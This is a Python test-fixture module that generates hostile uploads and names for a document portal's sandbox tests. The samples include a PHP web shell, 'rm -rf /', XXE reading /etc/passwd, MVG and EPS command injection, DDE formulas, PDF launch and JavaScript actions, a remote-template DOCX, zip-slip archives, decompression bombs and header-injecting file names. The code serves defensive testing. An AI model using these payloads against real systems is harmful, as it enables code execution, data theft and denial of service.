"""Hostile files, hostile names and good files, as the fault table counts them (U-01, U-02, U-03): made here, no binaries in the repository.

Each is a function, because some take a while to make and most tests need only one.
"""

import gzip
import io
import random
import stat
import struct
import zipfile
import zlib
from base64 import b85decode
from collections.abc import Callable
from dataclasses import dataclass

from PIL import Image, PngImagePlugin

from incentives_portal.cases.models import Case
from incentives_portal.documents.enums import FileType
from incentives_portal.sandbox.parsing.reasons import Content, Reason

from . import samples

#: In two halves, so that no virus scanner takes this file for what it makes.
EICAR = (r"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-" + "STANDARD-ANTIVIRUS-TEST-FILE!$H+H*").encode()
MARKER = b"canary-marker"
LIMIT = 20 * 1024 * 1024


@dataclass(frozen=True)
class Case:
    """A file under a name, and why it is refused. Without a reason it is stored, and MARKER stands in what its copy must not have.

    ``content`` is what is said beside it.
    """

    id: str
    name: str
    make: Callable[[], bytes]
    reason: Reason | None
    content: Content | None = None


@dataclass(frozen=True)
class Good:
    id: str
    name: str
    make: Callable[[], bytes]
    type: FileType
    sent_as: str = "application/octet-stream"


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png_with_page() -> bytes:
    words = PngImagePlugin.PngInfo()
    words.add_text("Comment", f"<html><script>{MARKER.decode()}</script></html>")
    return samples.picture(kind="PNG", pnginfo=words) + b"<html><script>" + MARKER + b"</script></html>"


def _jpeg_with_program() -> bytes:
    return samples.picture(comment=b"<?php system($_GET['" + MARKER + b"']); ?>")


def _jpeg_and_archive() -> bytes:
    return samples.picture() + samples.archive({"x.html": MARKER})


def _pdf_and_page() -> bytes:
    plain = samples.written_pdf()
    return plain[:9] + b"%<html><script>" + MARKER + b"</script></html>\n" + plain[9:]


def pdf_of(*objects: bytes, root: bytes = b"", page: bytes = b"") -> bytes:
    """A PDF of one page with further objects, numbered from 5; ``root`` and ``page`` are further entries of catalogue and page."""
    parts = [
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % root,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R %s >>" % page,
        b"<< /Length 0 >>\nstream\n\nendstream",
        *objects,
    ]
    return written(parts)


def written(parts: list[bytes]) -> bytes:
    """Objects, numbered from 1, as a PDF file; the first is the catalogue."""
    body, offsets = b"%PDF-1.7\n", []
    for number, part in enumerate(parts, start=1):
        offsets.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, part)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    end = b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(parts) + 1, len(body))
    return b"%sxref\n0 %d\n0000000000 65535 f \n%s%s" % (body, len(parts) + 1, table, end)


def stream(content: bytes, entries: bytes = b"") -> bytes:
    packed = zlib.compress(content, 9)
    return b"<< /Filter /FlateDecode /Length %d %s >>\nstream\n%s\nendstream" % (len(packed), entries, packed)


def pdf_with_file(name: str, content: bytes) -> bytes:
    """As an electronic invoice carries its data (and a trap its load)."""
    shown = name.encode()
    return pdf_of(
        b"<< /Type /Filespec /F (%s) /UF (%s) /EF << /F 6 0 R >> >>" % (shown, shown),
        stream(content, b"/Type /EmbeddedFile"),
        root=b"/Names << /EmbeddedFiles << /Names [(%s) 5 0 R] >> >>" % shown,
    )


def pdf_with_hidden_script() -> bytes:
    """The action stands in a packed object stream, its name is written with an escape."""
    inner = b"<< /Type /Action /S /Java#53cript /JS (app.alert\\('%s'\\)) >>" % MARKER
    return pdf_with_object_stream({5: inner}, root=b"/OpenAction 5 0 R")


def pdf_with_object_stream(hidden: dict[int, bytes], root: bytes) -> bytes:
    """A PDF with a cross-reference stream, as all newer programs write it. ``hidden`` objects lie packed in one stream."""
    index, bodies = b"", b""
    for number, body in hidden.items():
        index += b"%d %d " % (number, len(bodies))
        bodies += body + b" "
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % root,
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        9: stream(index + bodies, b"/Type /ObjStm /N %d /First %d" % (len(hidden), len(index))),
    }
    out, where = b"%PDF-1.7\n", {}
    for number, body in objects.items():
        where[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    rows = b""
    for number in range(10):
        if number in where:
            rows += struct.pack(">BIH", 1, where[number], 0)
        elif number in hidden:
            rows += struct.pack(">BIH", 2, 9, list(hidden).index(number))
        else:
            rows += struct.pack(">BIH", 0, 0, 65535)
    start = len(out)
    table = stream(rows, b"/Type /XRef /Size 10 /W [1 4 2] /Root 1 0 R")
    return out + b"10 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, start)


def _pdf_bomb() -> bytes:
    """300 MB of drawing commands in 300 KB."""
    pump = zlib.compressobj(9)
    packed = b"".join(pump.compress(b"0 0 m 9 9 l S\n" * 70_000) for _ in range(310)) + pump.flush()
    head = b"<< /Filter /FlateDecode /Length %d >>" % len(packed)
    return written(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
            head + b"\nstream\n" + packed + b"\nendstream",
        ]
    )


def _pdf_whose_pages_contain_themselves() -> bytes:
    return written(
        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 2 0 R] /Count 2 >>"]
    )


def _pdf_of_many_pages(count: int = 10_000) -> bytes:
    kids = b" ".join(b"%d 0 R" % number for number in range(3, count + 3))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
    pages = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count)
    return written([b"<< /Type /Catalog /Pages 2 0 R >>", pages, *[page] * count])


def _pdf_whose_tables_follow_each_other() -> bytes:
    """Each cross-reference table names the other one as the former; neither names an object."""
    first = b"%PDF-1.4\n"
    form = b"xref\n0 0\ntrailer\n<< /Size 3 /Root 1 0 R /Prev %05d >>\n"
    length = len(form % 0)
    body = first + form % (len(first) + length) + form % len(first)
    return body + b"startxref\n%d\n%%%%EOF\n" % len(first)


def _png_of_no_size() -> bytes:
    header = struct.pack(">II", 0, 0) + bytes([8, 2, 0, 0, 0])
    parts = (_png_chunk(b"IHDR", header), _png_chunk(b"IDAT", zlib.compress(b"")), _png_chunk(b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def _film() -> bytes:
    """A GIF of 10,000 frames, of one pixel each."""
    head = b"GIF89a" + struct.pack("<HHBBB", 1, 1, 0x80, 0, 0) + bytes(6)
    frame = b"\x21\xf9\x04\0\0\0\0\0\x2c\0\0\0\0\1\0\1\0\0\x02\x02\x44\x01\0"
    return head + frame * 10_000 + b"\x3b"


def sheet(*cells: str, **members: bytes) -> bytes:
    rows = "".join(cells)
    page = f'<worksheet xmlns="urn:s"><sheetData><row>{rows}</row></sheetData></worksheet>'
    return samples.xlsx(**{"xl/worksheets/sheet1.xml": page.encode(), **members})


def letter_with_template(target: str) -> bytes:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    link = f'<Relationships><Relationship Id="rId1" Type="{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    return samples.docx(**{"word/_rels/settings.xml.rels": link.encode()})


def _crowd() -> bytes:
    return samples.docx(**{f"word/m{number}.xml": b"" for number in range(100_000)})


def _archive_with(**options: int) -> bytes:
    """A letter one of whose members is a link in a file system, or is marked as encrypted."""
    out = io.BytesIO(samples.docx())
    with zipfile.ZipFile(out, "a") as archive:
        member = zipfile.ZipInfo("word/media/image1.png")
        member.external_attr = options.get("mode", 0) << 16
        archive.writestr(member, b"/etc/passwd")
    data = bytearray(out.getvalue())
    if flags := options.get("flags"):
        # In the head of the member and in the table of contents: writing encrypted members is more than the library can do.
        for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            data[data.rfind(mark) + offset] |= flags
    return bytes(data)


def _svg(inner: str, attributes: str = "", before: str = "") -> bytes:
    return f'{before}<svg xmlns="http://www.w3.org/2000/svg" {attributes}>{inner}</svg>'.encode()


_XXE = '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
_NOISE = random.Random(1)
_EPS = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%id) (r) file\n"
_MHT = (
    b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n"
    b"--x\r\nContent-Type: text/html\r\n\r\n<script>1</script>\r\n--x--"
)

TYPE_LIES = [
    Case("html-as-pdf", "a.pdf", lambda: b"<html><script>alert(1)</script></html>", Reason.CONTENT),
    Case("js-as-pdf", "a.pdf", lambda: b"alert(document.cookie)", Reason.CONTENT),
    Case("php-as-jpg", "a.jpg", lambda: b"<?php system($_GET['x']); ?>", Reason.CONTENT),
    Case("exe-as-pdf", "a.pdf", lambda: b"MZ\x90\0" + bytes(300), Reason.CONTENT),
    Case("elf-as-png", "a.png", lambda: b"\x7fELF\x02\x01\x01" + bytes(300), Reason.CONTENT),
    Case("shell-as-pdf", "a.pdf", lambda: b"#!/bin/sh\nrm -rf /\n", Reason.CONTENT),
    Case("svg-as-png", "a.png", lambda: _svg("<script>alert(1)</script>"), Reason.CONTENT),
    Case("mvg-as-jpg", "a.jpg", lambda: b"push graphic-context\nfill 'url(https://x.example/|id)'\n", Reason.CONTENT),
    Case("eps-as-pdf", "a.pdf", lambda: _EPS, Reason.CONTENT),
    Case("pdf-as-jpg", "a.jpg", samples.pdf, Reason.CONTENT),
    Case("jpeg-as-pdf", "a.pdf", samples.picture, Reason.CONTENT),
    Case("text-as-pdf", "a.pdf", lambda: b"Dear reviewer, here is the invoice.", Reason.CONTENT),
    Case("gzip-as-pdf", "a.pdf", lambda: gzip.compress(samples.pdf()), Reason.CONTENT),
    Case("random-as-png", "a.png", lambda: _NOISE.randbytes(5000), Reason.CONTENT),
]
ACTIVE_FORMATS = [
    Case("svg-script", "a.svg", lambda: _svg("<script>alert(1)</script>"), Reason.TYPE),
    Case("svg-onload", "a.svg", lambda: _svg("", 'onload="alert(1)"'), Reason.TYPE),
    Case("svg-foreign-object", "a.svg", lambda: _svg("<foreignObject><body/></foreignObject>"), Reason.TYPE),
    Case("svg-external-entity", "a.svg", lambda: _svg("&x;", before=_XXE), Reason.TYPE),
    Case("svgz", "a.svgz", lambda: gzip.compress(_svg("<script>1</script>")), Reason.TYPE),
    Case("html", "a.html", lambda: b"<!doctype html><script>alert(1)</script>", Reason.TYPE),
    Case("xhtml", "a.xhtml", lambda: b'<html xmlns="http://www.w3.org/1999/xhtml"/>', Reason.TYPE),
    Case("js", "a.js", lambda: b"alert(1)", Reason.TYPE),
    Case("swf", "a.swf", lambda: b"FWS\x0a" + bytes(60), Reason.TYPE),
    Case("mht", "a.mht", lambda: _MHT, Reason.TYPE),
    Case("hta", "a.hta", lambda: b"<hta:application/><script>1</script>", Reason.TYPE),
    Case("url", "a.url", lambda: b"[InternetShortcut]\r\nURL=file:///c:/x.exe\r\n", Reason.TYPE),
]
POLYGLOTS = [
    Case("gif-js", "a.png", lambda: b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)", Reason.CONTENT),
    Case("jpeg-zip", "a.jpg", _jpeg_and_archive, Reason.MIXED),
    Case("pdf-html", "a.pdf", _pdf_and_page, None, Content.MARKUP),
    Case("pdf-zip", "a.pdf", lambda: samples.pdf() + samples.archive({"x.html": MARKER}), Reason.MIXED),
    Case("png-html", "a.png", _png_with_page, None),
    Case("jpeg-php-comment", "a.jpg", _jpeg_with_program, None),
]
PDFS = [
    Case("pdf-encrypted", "a.pdf", samples.locked_pdf, Reason.PASSWORD),
    Case("pdf-truncated", "a.pdf", lambda: samples.pdf(3)[:-600], Reason.DAMAGED),
    Case("pdf-javascript", "a.pdf", pdf_with_hidden_script, None, Content.SCRIPTS),
    Case(
        "pdf-launch",
        "a.pdf",
        lambda: pdf_of(b"<< /S /Launch /F (%s.exe) >>" % MARKER, root=b"/OpenAction 5 0 R"),
        None,
        Content.ACTIONS,
    ),
    Case("pdf-embedded-eicar", "a.pdf", lambda: pdf_with_file("eicar.com", EICAR), Reason.EMBEDDED),
    Case("pdf-stream-bomb", "a.pdf", _pdf_bomb, Reason.TOO_COMPLEX),
    Case("pdf-page-tree-loop", "a.pdf", _pdf_whose_pages_contain_themselves, Reason.DAMAGED),
    Case("pdf-10000-pages", "a.pdf", _pdf_of_many_pages, Reason.TOO_COMPLEX),
    Case("pdf-xref-loop", "a.pdf", _pdf_whose_tables_follow_each_other, Reason.DAMAGED),
]
IMAGES = [
    Case("png-pixel-flood", "a.png", samples.pixel_flood, Reason.TOO_COMPLEX),
    Case("png-ztxt-bomb", "a.png", samples.inflated_text, Reason.DAMAGED),
    Case("gif-10000-frames", "a.png", _film, Reason.CONTENT),
    Case("jpeg-truncated", "a.jpg", lambda: samples.picture(400, 400)[:-200], Reason.DAMAGED),
    Case("png-truncated", "a.png", lambda: samples.picture(400, 400, kind="PNG")[:-30], Reason.DAMAGED),
    Case("png-zero-size", "a.png", _png_of_no_size, Reason.DAMAGED),
]
OFFICE = [
    Case("docm", "a.docm", lambda: samples.docx(samples.WORD_WITH_MACROS), Reason.TYPE),
    Case("xlsm-as-xlsx", "a.xlsx", lambda: sheet(**{"xl/vbaProject.bin": b"x"}), Reason.MACROS),
    Case(
        "xlsx-dde",
        "a.xlsx",
        lambda: sheet(f"<c><f>cmd|'/C {MARKER.decode()}'!A0</f><v>1</v></c>"),
        None,
        Content.COMMANDS,
    ),
    Case(
        "xlsx-billion-laughs",
        "a.xlsx",
        lambda: sheet(**{"xl/sharedStrings.xml": samples.BILLION_LAUGHS}),
        Reason.ENTITIES,
    ),
    Case(
        "docx-remote-template",
        "a.docx",
        lambda: letter_with_template(f"https://{MARKER.decode()}.example/t.dotm"),
        None,
        Content.EXTERNAL,
    ),
    Case(
        "docx-nested-zip",
        "a.docx",
        lambda: samples.docx(**{"word/embeddings/x.zip": samples.archive({"y.zip": samples.archive({"z": b"1"})})}),
        Reason.EMBEDDED,
    ),
    Case("docx-100k-entries", "a.docx", _crowd, Reason.TOO_COMPLEX),
    Case("docx-zip-slip", "a.docx", lambda: samples.docx(**{"../../../slip.xml": b"x"}), Reason.CONTENT),
    Case("docx-zip-symlink", "a.docx", lambda: _archive_with(mode=stat.S_IFLNK | 0o777), Reason.CONTENT),
    Case("docx-encrypted-zip", "a.docx", lambda: _archive_with(flags=1), Reason.PASSWORD),
]
MALWARE_AND_SIZE = [
    Case("eicar", "eicar.com", lambda: EICAR, Reason.TYPE),
    Case("eicar-in-zip", "a.zip", lambda: samples.archive({"eicar.com": EICAR}), Reason.TYPE),
    Case("eicar-in-docx", "a.docx", lambda: samples.docx(**{"word/embeddings/eicar.com": EICAR}), Reason.EMBEDDED),
    Case("empty", "a.pdf", lambda: b"", Reason.EMPTY),
    Case("one-byte-too-large", "a.pdf", lambda: samples.pdf().ljust(LIMIT + 1, b"\n"), Reason.TOO_LARGE),
    Case("lnk", "a.lnk", lambda: b"L\0\0\0\x01\x14\x02\0" + bytes(80), Reason.TYPE),
    Case("iso", "a.iso", lambda: bytes(0x8001) + b"CD001" + bytes(2000), Reason.TYPE),
]
HOSTILE = [*TYPE_LIES, *ACTIVE_FORMATS, *POLYGLOTS, *PDFS, *IMAGES, *OFFICE, *MALWARE_AND_SIZE]

#: Row, the name as it is sent, the name as it is shown.
HOSTILE_NAMES = [
    ("path", "../../x.pdf", "x.pdf"),
    ("drive", "C:\\x.pdf", "x.pdf"),
    ("line-break", "x\r\nSet-Cookie: a=b.pdf", "xSet-Cookie: a=b.pdf"),
    ("second-filename", '"; filename="x.html.pdf', '"; filename="x.html.pdf'),
    ("markup", "<img src=x onerror=alert(1)>.pdf", "<img src=x onerror=alert(1)>.pdf"),
    ("right-to-left", "invoice\u202efdp.exe.pdf", "invoicefdp.exe.pdf"),
    ("very-long", "a" * 300 + ".pdf", "a" * 146 + ".pdf"),
    ("double-ending", "x.exe.pdf", "x.exe.pdf"),
    ("leading-point", "..x.pdf", "x.pdf"),
    ("trailing-point", "x.pdf. .", "x.pdf"),
    ("nul", "x\0.pdf", "x.pdf"),
    ("formula", "=cmd().pdf", "=cmd().pdf"),
]


#: A real HEIC of 64 × 32 pixels, red with a blue corner at the upper left, lying on its side (the telephone was held upright), with
#: a place and the owner's words in it; made with pillow-heif, which the portal does not need.
_HEIC = (
    "c-mc2Jxml)5T17{=Mwcao+N<$9EAxXklbF3F;o}%>4=5R#RivmySXv@^Rl-gM?nIK@vkx#)KtWdf(8f$bhgIA*1}w&7KDa_pzF-Lr!h=+c4of$-rqL>Fyy"
    "Bzs^OsovJicT^AKGhKzt0n)P=5%HR?fPa!@E!xMcS+i1jA3Rmg$hO#JLdvNB<0xuJhZME(#l@^!`CJ}Nv-BTi#kI`AJTm@?NwO)n@+LoiHn6;+}rZ=;ei"
    "#bsJMBP@pAY0}6sT>R>E0B%~(XhnZjTo+l!1dACKe<S<3s!Pp@M?zfcY?ju0Hokw`+S|1o<q|;_|6pv1==oW3)I5AchZJQTB#{hSgx-Ms8bNoksXX)Cs_"
    "}6dxXR=#Mae`hLY8G;jTpBSwva)~wrvW%n8YdF2L@1ue}^JK<kxdn&x@B-3}WK>rcsdfrqpBLy|==;%k!EX7u&V7;`_y{{bX-+=~ec2xbNV6HT&@VM`!1"
    "0?ez26@5d*j2lJgzcfYiWpYQ6uumBTO*<gu+zFU#JB5t!hECImldvL|PW1f$fZsaB_Q+2N?6I3b2k?s!b)z`>t%&L?t52hVw+Nl8i0c(ePiU"
)


def heic() -> bytes:
    return zlib.decompress(b85decode(_HEIC))


def large_pdf() -> bytes:
    """A scan of 19.9 MB, whose pictures cannot be packed."""
    noise = [Image.frombytes("L", (2600, height), _NOISE.randbytes(2600 * height)) for height in (3900, 1160)]
    out = io.BytesIO()
    noise[0].save(out, "PDF", quality=100, save_all=True, append_images=noise[1:])
    return out.getvalue()


GOOD = [
    Good("cmyk-jpeg", "print.jpg", lambda: samples.picture(mode="CMYK"), FileType.JPEG),
    Good("progressive-jpeg", "web.jpg", lambda: samples.picture(progressive=True), FileType.JPEG),
    Good("phone-photo", "IMG_0042.jpeg", samples.photo_with_place, FileType.JPEG),
    Good("webp", "banner.webp", lambda: samples.picture(kind="WEBP"), FileType.WEBP),
    Good("heic", "IMG_0043.HEIC", heic, FileType.HEIC),
    Good("scanned-pdf", "scan.pdf", samples.pdf, FileType.PDF),
    Good("40-pages", "report.pdf", lambda: samples.pdf(40), FileType.PDF),
    Good("19.9-mb", "large.pdf", large_pdf, FileType.PDF),
    Good("non-ascii-name", "Ärger – 请求书.pdf", samples.pdf, FileType.PDF),
    Good("octet-stream", "a.pdf", samples.written_pdf, FileType.PDF, "application/octet-stream"),
    Good("no-content-type", "a.pdf", samples.written_pdf, FileType.PDF, ""),
    Good("upper-case-ending", "A.PDF", samples.written_pdf, FileType.PDF, "application/pdf"),
]
